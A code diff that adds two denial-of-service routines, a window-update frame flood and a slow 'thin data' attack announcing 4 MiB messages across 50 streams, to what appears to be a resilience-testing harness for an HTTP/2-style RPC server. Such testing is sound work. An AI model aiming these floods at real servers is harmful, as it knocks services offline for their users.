@@ -191,6 +191,31 @@ AttackCounts ControlFlood(const PeerOptions& options, absl::Time until) {
   });
 }
 
+AttackCounts WindowUpdates(const PeerOptions& options, absl::Time until) {
+  constexpr int kBatch = 500;
+  std::string frames;
+  for (int i = 0; i < kBatch; ++i) frames += WindowUpdate(0, 1);
+  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
+    while (absl::Now() < until && peer.Send(frames, kPatience)) counts.sent += kBatch;
+  });
+}
+
+AttackCounts ThinData(const PeerOptions& options, absl::Time until) {
+  constexpr int kStreams = 50, kRounds = 10;
+  std::string begin, frames;
+  for (uint32_t i = 0; i < kStreams; ++i) {
+    // The first bytes say that a message of 4 MiB comes.
+    begin += BeginCall(2 * i + 1, kExecute) +
+             Frame(FrameType::kData, kNoFlags, 2 * i + 1, std::string("\0\0\x40\0\0", 5));
+    frames += Frame(FrameType::kData, kNoFlags, 2 * i + 1, "x");
+  }
+  for (int round = 1; round < kRounds; ++round) frames += frames.substr(0, kStreams * 10);
+  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
+    peer.Send(begin, kPatience);
+    while (absl::Now() < until && peer.Send(frames, kPatience)) counts.sent += kStreams * kRounds;
+  });
+}
+
 const std::vector<NamedAttack>& AllAttacks() {
   static const auto* const attacks = new std::vector<NamedAttack>{
       {"continuation_flood", ContinuationFlood},
@@ -199,6 +224,8 @@ const std::vector<NamedAttack>& AllAttacks() {
       {"watch_flood", WatchFlood},
       {"rapid_reset", RapidReset},
       {"control_flood", ControlFlood},
+      {"window_updates", WindowUpdates},
+      {"thin_data", ThinData},
   };
   return *attacks;
 }
